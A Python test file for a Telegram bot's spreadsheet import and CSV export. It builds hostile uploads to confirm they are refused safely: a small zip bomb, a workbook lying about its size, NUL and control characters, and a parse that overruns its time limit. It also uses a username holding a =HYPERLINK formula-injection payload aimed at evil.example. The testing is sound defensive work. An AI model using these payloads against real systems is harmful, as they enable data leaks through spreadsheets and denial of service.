"""Uploads cannot hurt anyone (issue 18, part 2), and exports never inject (part 4): hostile files sent to /import
through the real Application and the fake Bot API — too big, a zip bomb, a sheet lying about its size, NUL and
control characters, an oversized CSV field, blank rows, a long list of errors, a parse that would never end — and
the broadcast failures CSV with a user named like a formula. The hostile files are made here, small."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator

import psutil
from sqlalchemy import func, select

from db.models import Broadcast, BroadcastStatus, Enterprise, Notification, OutboxStatus
from fakebotapi import FakeUser
from services.importing import CRAFTSMAN_COLUMNS, ENTERPRISE_COLUMNS
from tests.harness import BotHarness
from tests.test_report import enterprise_user, staffer
from tests.test_talent import BAD_PHONE, GOOD, GOOD2, craftsmen, xlsx

SHEET = "xl/worksheets/sheet1.xml"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def rezip(content: bytes, changes: dict[str, bytes | Iterator[bytes]]) -> bytes:
    """``content`` (a zip) with the members named in ``changes`` replaced or added (bytes, or chunks to stream)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in changes:
                target.writestr(info.filename, source.read(info.filename))
        for name, data in changes.items():
            with target.open(name, "w") as fh:
                for chunk in [data] if isinstance(data, bytes) else data:
                    fh.write(chunk)
    return out.getvalue()


def sheet_xml(content: bytes) -> bytes:
    return zipfile.ZipFile(io.BytesIO(content)).read(SHEET)


async def start_import(staff: FakeUser) -> None:
    staff.send("/import")
    await staff.expect("请发送要导入的")


async def enterprise_count(bot: BotHarness) -> int:
    async with bot.services.db.session() as session:
        return await session.scalar(select(func.count()).select_from(Enterprise))


# ------------------------------------------------------------------------------------------- size and zip bombs
async def test_a_file_over_the_size_limit_is_refused_before_it_is_downloaded(bot: BotHarness):
    staff = await staffer(bot)
    await start_import(staff)
    content = xlsx(CRAFTSMAN_COLUMNS, [GOOD])
    stored = bot.api.world.store_file(content, "document", XLSX)
    bot.api.user_message(
        staff.id,
        document={
            "file_id": stored.file_id,
            "file_unique_id": stored.file_unique_id,
            "file_name": "craftsmen.xlsx",
            "mime_type": XLSX,
            "file_size": 11 * 1024 * 1024,
        },
    )  # as Telegram declares it
    await staff.expect("文件太大了（最大 10 MB）")
    assert bot.api.world.calls.get("getFile", 0) == 0, "refused before it was downloaded"
    assert await craftsmen(bot) == []


async def test_a_zip_bomb_is_refused_by_its_declared_sizes(bot: BotHarness):
    staff = await staffer(bot)
    bomb = rezip(xlsx(CRAFTSMAN_COLUMNS, [GOOD]), {"xl/media/image1.png": iter([bytes(1024 * 1024)] * 60)})
    assert len(bomb) < 200_000  # 60 MB inside
    await start_import(staff)
    staff.send_document(bomb, "craftsmen.xlsx", XLSX)
    await staff.expect("解压后过大（超过 50 MB）")
    assert await craftsmen(bot) == []


# ------------------------------------------------------------------------------------------- the sheet's shape
async def test_a_workbook_lying_about_its_dimension_is_read_by_its_real_cells(bot: BotHarness):
    """A 5 KB workbook claiming A1:XFD1048576, with empty cells at XFD2 and XFD1048576: read as its two rows
    (today openpyxl pads every row, and the million rows up to the last, to 16,384 cells: MemoryError after
    1.5 GiB). A real cell past the column limit is refused, naming its row and cell."""
    staff = await staffer(bot)
    honest = xlsx(CRAFTSMAN_COLUMNS, [GOOD, GOOD2])
    xml = re.sub(rb'<dimension ref="[^"]+" ?/>', b'<dimension ref="A1:XFD1048576"/>', sheet_xml(honest))
    xml = re.sub(rb'(<row r="2".*?)</row>', rb'\1<c r="XFD2" s="0"/></row>', xml, count=1, flags=re.S)
    xml = xml.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>')
    assert b"XFD2" in xml and b"A1:XFD1048576" in xml and b"XFD1048576" in xml
    lying = rezip(honest, {SHEET: xml})
    assert len(lying) < 10_000
    await start_import(staff)
    staff.send_document(lying, "craftsmen.xlsx", XLSX)
    await staff.expect("新增 2 条，更新 0 条")
    assert [c.name for c in await craftsmen(bot)] == ["陈师傅", "林师傅"]

    wide = xlsx(CRAFTSMAN_COLUMNS, [GOOD, GOOD2[:4] + ("配电线路故障排查",) + GOOD2[5:] + ("",) * 41 + ("备注",)])
    await start_import(staff)
    staff.send_document(wide, "craftsmen.xlsx", XLSX)
    await staff.expect("第 3 行的 AZ3 单元格超出了列数上限：一次最多读取 50 列")


# ------------------------------------------------------------------------------------------- cells and row numbers
async def test_nul_control_characters_and_an_oversized_field_are_named_by_row_and_cell(bot: BotHarness):
    """A CSV with blank lines, a NUL, a bell character and a field beyond the csv module's limit (131,072): each
    row is rejected with its own reason and its spreadsheet row number; the valid row can still be imported and
    nothing with a NUL reaches the database (PostgreSQL would refuse it)."""
    staff = await staffer(bot)
    lines = [
        ",".join(ENTERPRISE_COLUMNS),
        "",
        "湖州某铝业有限公司,91330100799655058B,专精特新,330502,C32,李工,0572-2345678",
        "湖州\x00某厂,91330100799655058B,,,,,",
        "",
        "湖州某纺织厂,91330100799655058B,,,,张\x07工,",
        "湖州某电机厂,91330100799655058C,,,,,",
        '湖州某化工厂,91330100799655058B,,,,"' + "很长" * 100_000 + '",',
    ]
    await start_import(staff)
    staff.send_document(("\n".join(lines) + "\n").encode("utf-8"), "enterprises.csv", "text/csv")
    report = await staff.expect("其中 4 行有误")
    text = report["text"]
    for needed in (
        "文件共 5 行数据",
        "第 4 行：A4 单元格（企业名称）含有空字符（NUL）",
        "第 6 行：F6 单元格（联系人）含有不可见的控制字符（U+0007）",
        "第 7 行：",
        "最后一位应为 B",
        "第 8 行：F8 单元格（联系人）的内容太长（200000 字，最多 5000 字）",
    ):
        assert needed in text, needed
    assert "出了问题" not in text and "\x00" not in text and "\x07" not in text
    staff.press("仅导入有效的 1 行", report)
    await staff.expect("新增 1 条，更新 0 条")
    assert await enterprise_count(bot) == 1


async def test_row_numbers_are_the_spreadsheets_own_counting_blank_rows(bot: BotHarness):
    staff = await staffer(bot)
    await start_import(staff)
    staff.send_document(xlsx(CRAFTSMAN_COLUMNS, [(), (), (), BAD_PHONE, GOOD]), "craftsmen.xlsx", XLSX)
    report = await staff.expect("其中 1 行有误")
    assert "第 5 行：“手机”不是有效的电话号码：12345" in report["text"]
    assert "第 2 行" not in report["text"]


async def test_a_long_list_of_errors_arrives_as_a_file(bot: BotHarness):
    staff = await staffer(bot)
    honour = "金牌" * 250  # each reason quotes the 500-character value
    rows = [(f"钱师傅{i}", "湖州某厂", f"136{i:08d}", honour, "焊接", "", "330502", "", "", "") for i in range(300)]
    await start_import(staff)
    staff.send_document(xlsx(CRAFTSMAN_COLUMNS, [*rows, GOOD]), "craftsmen.xlsx", XLSX)
    document = await staff.expect("导入错误清单：共 300 行有误")
    report = await staff.expect("其中 300 行有误")
    assert len(report["text"]) <= 4096 and "完整清单见附件" in report["text"]
    content = bot.api.world.files[document["document"]["file_id"]].content.decode("utf-8-sig")
    listed = list(csv.reader(io.StringIO(content)))
    assert listed[0] == ["行号", "原因"]
    assert [int(r[0]) for r in listed[1:]] == list(range(2, 302))
    assert honour in listed[1][1]  # the file has the whole reason
    staff.press("仅导入有效的 1 行", report)
    await staff.expect("新增 1 条，更新 0 条")


# ------------------------------------------------------------------------------------------- time
def blank_rows(count: int) -> Iterator[bytes]:
    """A sheet: the header, then ``count`` rows holding only an empty formatted cell (each numbered, so the sheet
    inflates about 20× — an ordinary ratio — and needs seconds to parse)."""
    yield (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    )
    for index, name in enumerate(CRAFTSMAN_COLUMNS, 1):
        yield f'<c r="{chr(64 + index)}1" t="inlineStr"><is><t>{name}</t></is></c>'.encode()
    yield b"</row>"
    chunk = []
    for number in range(2, count + 2):
        chunk.append(b'<row r="%d"><c r="A%d" s="0"/></row>' % (number, number))
        if len(chunk) == 10_000:
            yield b"".join(chunk)
            chunk = []
    yield b"".join(chunk) + b"</sheetData></worksheet>"


async def test_other_users_are_answered_while_an_import_parses_and_a_parse_past_its_budget_is_stopped(
    bot: BotHarness, monkeypatch
):
    """A million-row workbook (5 MB) takes the parser many seconds. Meanwhile another user is answered; the parse
    is stopped at its budget (3 s here) with a clear answer, and its worker process is gone."""
    try:
        import services.tables as tables

        monkeypatch.setattr(tables, "BUDGET_SECONDS", 3.0)
    except ImportError:  # before the fix there was no budget
        pass
    staff = await staffer(bot)
    other = await enterprise_user(bot, 46)
    big = rezip(xlsx(CRAFTSMAN_COLUMNS, []), {SHEET: blank_rows(1_000_000)})
    await start_import(staff)
    answered = len(staff.events())
    staff.send_document(big, "craftsmen.xlsx", XLSX)
    await bot.api.wait_called("getFile")  # the bot has the file and is reading it
    other.send("/help")
    await other.expect("我能为您做什么")
    assert len(staff.events()) == answered, "the other user was answered while the file was still being read"
    await staff.expect("读取这个文件超过了 3 秒，已停止", timeout=30)
    assert not [p for p in psutil.Process().children(recursive=True) if "services.tables" in " ".join(p.cmdline())]
    assert await craftsmen(bot) == []


# ------------------------------------------------------------------------------------------- exports
async def test_the_broadcast_failures_csv_writes_a_formula_name_as_text(bot: BotHarness):
    staff = await staffer(bot)
    name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    await bot.services.users.register(4242, name, username="evil_user")
    async with bot.services.db.session() as session:
        broadcast = Broadcast(
            created_by=staff.id, audience={}, text="通知", status=BroadcastStatus.DONE, total=1, send_at=bot.clock.now()
        )
        session.add(broadcast)
        await session.flush()
        session.add(
            Notification(
                chat_id=4242,
                kind="broadcast",
                dedupe_key=f"broadcast:{broadcast.id}:4242",
                payload={"text": "通知"},
                status=OutboxStatus.BLOCKED,
                broadcast_id=broadcast.id,
                last_error="Forbidden: bot was blocked by the user",
            )
        )
        broadcast_id = broadcast.id
    staff.send("/help")
    message = await staff.expect("我能为您做什么")
    staff.press_data(bot.signed(staff, f"bc:csv:{broadcast_id}"), message)
    document = await staff.expect("未送达")
    content = bot.api.world.files[document["document"]["file_id"]].content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[1][0] == "4242" and rows[1][1] == "'" + name and rows[1][2] == "'@evil_user"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
